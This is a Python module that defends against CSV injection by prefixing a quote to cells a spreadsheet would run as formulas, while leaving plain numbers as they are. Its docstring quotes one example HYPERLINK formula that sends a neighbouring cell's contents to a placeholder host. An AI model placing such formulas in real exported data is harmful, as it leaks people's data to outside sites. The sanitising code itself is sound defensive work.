"""CSV cells that a spreadsheet would run as formulas ("CSV injection").

A restored CSV holds text that came from outside: a buyer's nickname, an address, a product
title. Opened in Excel, LibreOffice or Google Sheets, a cell such as
`=HYPERLINK("http://x/?"&B2,"help")` is a live formula that can send its neighbouring cells to
another site. OWASP's rule: a cell starting with `=`, `+`, `-`, `@`, TAB or CR gets a leading
single quote, which spreadsheets take as "this is text" and do not show.

A cell that is nothing but a plain decimal number (`-12.50`, `+3`, `1e5`) is left as it is:
a spreadsheet reads it as that number and nothing else, and prefixing it would turn every
negative amount of a finance dataset into text that no longer sums.
"""

from __future__ import annotations

import re

#: what makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralise(cell: str) -> str:
    """`cell` with a leading `'` if a spreadsheet would take it for a formula."""
    if cell.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell
